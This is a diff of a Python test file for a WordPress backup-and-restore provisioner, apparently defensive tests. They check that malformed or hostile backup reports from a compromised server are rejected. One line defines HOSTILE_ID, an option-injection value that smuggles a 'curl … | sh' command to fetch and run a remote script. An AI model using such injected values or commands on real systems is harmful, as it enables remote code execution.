@@ -22,15 +22,17 @@ from provisioner.backups.service import request_restore
 from provisioner.config import Settings
 from provisioner.crypto import decrypt
 from provisioner.db import transaction
+from provisioner.engine.execute import run_claimed
+from provisioner.engine.sink import DatabaseSink
 from provisioner.instances.credentials import store_secrets
 from provisioner.jobs.service import create_job
 from provisioner.jobs.states import JobKind
 from provisioner.models import Alert, Backup, Instance, Job
-from provisioner.runner.spec import EventSink, RunnerEvent, RunOutcome, RunSpec
+from provisioner.runner.scripted import ScriptedRun, ScriptedRunner, fails, succeeds
+from provisioner.runner.spec import RunnerEvent, RunOutcome, RunSpec
 from provisioner.timeutil import utcnow
-from provisioner.worker.backup_jobs import execute_backup_job
-from provisioner.worker.execution import DatabaseSink
 from tests.support import factories
+from tests.support.engine import scripted_context
 from tests.support.running import running_blog, unused_backup_target
 
 HOSTILE_ID = "--password-command=sh -c 'curl 192.0.2.66 | sh'"  # fits the column: 64 characters
@@ -43,22 +45,20 @@ def _report(snapshot_id: object, **summary: object) -> dict[str, object]:
     return {"snapshot_id": snapshot_id, "summary": counts, "paths": HOSTILE_PATHS}
 
 
-class ScriptedRuns:
-    """Stands in for the runner adapter: answers each playbook as a (compromised) server would."""
+def _scripted(report: object, failing: frozenset[str] = frozenset()) -> ScriptedRunner:
+    """Answers each playbook as a (compromised) server would: the backup reports ``report``; the
+    playbooks in ``failing`` fail."""
 
-    def __init__(self, report: dict[str, object]) -> None:
-        self.report = report
-        self.ran: list[RunSpec] = []
-        self.failing: set[str] = set()
+    def answer(spec: RunSpec) -> ScriptedRun:
+        if spec.playbook in failing:
+            return fails(f"{spec.playbook} failed")
+        if spec.playbook != "backup.yml":
+            return succeeds()
+        shown = "ok: [server] => " + json.dumps({"msg": report})
+        event = RunnerEvent(1, utcnow(), "s1", steps.REPORT_TASK, "ok", "ok: Report the backup", shown)
+        return ScriptedRun(RunOutcome(status="successful", rc=0, error=None), events=(event,))
 
-    def __call__(self, spec: RunSpec, sink: EventSink, *, work_root: Path) -> RunOutcome:
-        self.ran.append(spec)
-        if spec.playbook == "backup.yml":
-            shown = "ok: [server] => " + json.dumps({"msg": self.report})
-            sink.emit(RunnerEvent(1, utcnow(), "s1", steps.REPORT_TASK, "ok", "ok: Report the backup", shown))
-        if spec.playbook in self.failing:
-            return RunOutcome(status="failed", rc=2, error=None)
-        return RunOutcome(status="successful", rc=0, error=None)
+    return ScriptedRunner(answer=answer)
 
 
 @pytest.fixture
@@ -68,15 +68,9 @@ def settings(db_url: str, tmp_path: Path) -> Settings:
     return Settings(data_dir=tmp_path, database_url=db_url, ssh_key_path=key)
 
 
-def _scripted(monkeypatch: pytest.MonkeyPatch, report: dict[str, object]) -> ScriptedRuns:
-    runs = ScriptedRuns(report)
-    monkeypatch.setattr(steps, "run_playbook", runs)
-    return runs
-
-
-def _execute(settings: Settings, job_id: str, kind: JobKind) -> None:
+def _execute(settings: Settings, runs: ScriptedRunner, job_id: str) -> None:
     sink = DatabaseSink(settings.resolved_database_url, job_id)
-    execute_backup_job(settings, factories.CATALOG, job_id, kind, sink)
+    run_claimed(scripted_context(settings, runs), job_id, sink)
 
 
 def _backup_job(settings: Settings) -> tuple[str, str]:
@@ -114,11 +108,11 @@ def _backup_job(settings: Settings) -> tuple[str, str]:
     ],
 )
 def test_a_report_of_the_wrong_shape_fails_the_backup_loudly_and_nothing_of_it_is_kept(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, report: dict[str, object]
+    settings: Settings, report: dict[str, object]
 ) -> None:
-    _scripted(monkeypatch, report)
+    runs = _scripted(report)
     blog_id, job_id = _backup_job(settings)
-    _execute(settings, job_id, JobKind.BACKUP)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         job = session.get_one(Job, job_id)
         assert job.status == "failed"
@@ -134,13 +128,11 @@ def test_a_report_of_the_wrong_shape_fails_the_backup_loudly_and_nothing_of_it_i
         assert (alert.kind, alert.status) == ("backup_failed", "open")
 
 
-def test_a_good_report_keeps_the_full_id_and_paths_derived_from_our_names(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_good_report_keeps_the_full_id_and_paths_derived_from_our_names(settings: Settings) -> None:
     snapshot_id = secrets.token_hex(32)
-    _scripted(monkeypatch, _report(snapshot_id))
+    runs = _scripted(_report(snapshot_id))
     blog_id, job_id = _backup_job(settings)
-    _execute(settings, job_id, JobKind.BACKUP)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         assert session.get_one(Job, job_id).status == "succeeded"
         backup = session.scalars(select(Backup)).one()
@@ -192,12 +184,12 @@ def _restore_into_a_copy(settings: Settings, blog_id: str, backup_id: str) -> st
     ids=["snapshot-option", "dot-dot", "another-instance"],
 )
 def test_a_stored_report_of_the_wrong_shape_never_reaches_another_server(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, stored: dict[str, object]
+    settings: Settings, stored: dict[str, object]
 ) -> None:
-    runs = _scripted(monkeypatch, {})
+    runs = _scripted({})
     blog_id, backup_id = _stored_backup(settings, **stored)
     job_id = _restore_into_a_copy(settings, blog_id, backup_id)
-    _execute(settings, job_id, JobKind.RESTORE)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         job = session.get_one(Job, job_id)
         assert job.status == "failed"
@@ -209,9 +201,9 @@ def test_a_stored_report_of_the_wrong_shape_never_reaches_another_server(
 
 @pytest.mark.parametrize("recorded_before", [False, True], ids=["derived", "recorded-before"])
 def test_a_restore_into_a_copy_gets_a_checked_snapshot_id_and_paths_from_our_names(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, recorded_before: bool
+    settings: Settings, recorded_before: bool
 ) -> None:
-    runs = _scripted(monkeypatch, {})
+    runs = _scripted({})
     blog_id, backup_id = _stored_backup(settings)
     # Recorded before paths were derived: restic 0.14's short id, absolute paths in Debian's Docker folder.
     root = "/var/lib/docker/volumes" if recorded_before else ""
@@ -222,7 +214,7 @@ def test_a_restore_into_a_copy_gets_a_checked_snapshot_id_and_paths_from_our_nam
             row.paths = {name: f"{root}/prv-{blog_id}-{name}/_data" for name in ("db", "content")}
         snapshot_id = row.snapshot_id
     job_id = _restore_into_a_copy(settings, blog_id, backup_id)
-    _execute(settings, job_id, JobKind.RESTORE)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         assert session.get_one(Job, job_id).status == "succeeded"
         copy_id = session.get_one(Job, job_id).instance_id
@@ -238,22 +230,17 @@ def _shown(session: Session, settings: Settings, instance_id: str) -> str:
     return next(decrypt(settings, s.encrypted) for s in row.secrets if s.shown)
 
 
-def _copy_restored(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, *, failing: set[str]
-) -> tuple[ScriptedRuns, str, str]:
+def _copy_restored(settings: Settings, *, failing: frozenset[str]) -> tuple[ScriptedRunner, str, str]:
     """An operator's copy of a WordPress restored by the worker: the runs, the original, the job."""
-    runs = _scripted(monkeypatch, {})
-    runs.failing |= failing
+    runs = _scripted({}, failing)
     blog_id, backup_id = _stored_backup(settings)
     job_id = _restore_into_a_copy(settings, blog_id, backup_id)
-    _execute(settings, job_id, JobKind.RESTORE)
+    _execute(settings, runs, job_id)
     return runs, blog_id, job_id
 
 
-def test_a_copy_gets_an_admin_password_of_its_own_made_valid_after_the_restore(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    runs, blog_id, job_id = _copy_restored(settings, monkeypatch, failing=set())
+def test_a_copy_gets_an_admin_password_of_its_own_made_valid_after_the_restore(settings: Settings) -> None:
+    runs, blog_id, job_id = _copy_restored(settings, failing=frozenset())
     with transaction(settings.resolved_database_url) as session:
         job = session.get_one(Job, job_id)
         assert (job.status, job.instance.state) == ("succeeded", "running")
@@ -273,10 +260,8 @@ def test_a_copy_gets_an_admin_password_of_its_own_made_valid_after_the_restore(
     ]
 
 
-def test_a_copy_whose_password_cannot_be_set_fails_saying_its_data_is_back(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    _, _, job_id = _copy_restored(settings, monkeypatch, failing={"hooks.yml"})
+def test_a_copy_whose_password_cannot_be_set_fails_saying_its_data_is_back(settings: Settings) -> None:
+    _, _, job_id = _copy_restored(settings, failing=frozenset({"hooks.yml"}))
     with transaction(settings.resolved_database_url) as session:
         job = session.get_one(Job, job_id)
         assert (job.status, job.instance.state) == ("failed", "failed")
